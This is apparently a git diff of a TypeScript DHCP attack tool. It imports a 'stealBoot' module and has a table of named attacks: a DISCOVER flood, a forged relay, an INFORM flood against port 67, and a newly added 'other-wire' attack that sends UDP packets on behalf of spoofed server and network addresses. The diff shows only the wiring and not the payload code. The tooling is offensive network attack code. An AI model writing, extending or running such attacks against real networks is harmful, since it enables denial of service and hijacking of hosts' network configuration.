@@ -25,6 +25,7 @@ import {
   registration,
 } from './link-words.ts';
 import { authorization } from './oauth.ts';
+import { speakForOtherWire } from './other-wire.ts';
 import { stealBoot } from './stolen-boot.ts';
 
 const BOOT_PORT = 5248;
@@ -327,6 +328,12 @@ async function bootAsNew(): Promise<void> {
 const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   'discover-flood': () => discoverFlood(1000),
   'forged-relay': () => forgeRelay(500),
+  'other-wire': async () => {
+    const socket = await udp(first);
+    const [broadcast = '', server = '', network = '', range = ''] = addresses.slice(-4);
+    const names = { broadcast, server: ip(server), network: ip(network), range: ip(range), holder: hw(further) };
+    await speakForOtherWire({ socket, rack, ...names, isOver, tell });
+  },
   'dhcp-inform-absent': async () => {
     await flood(await everyAddress(), 12_000, 67, (index) =>
       clientBytes({
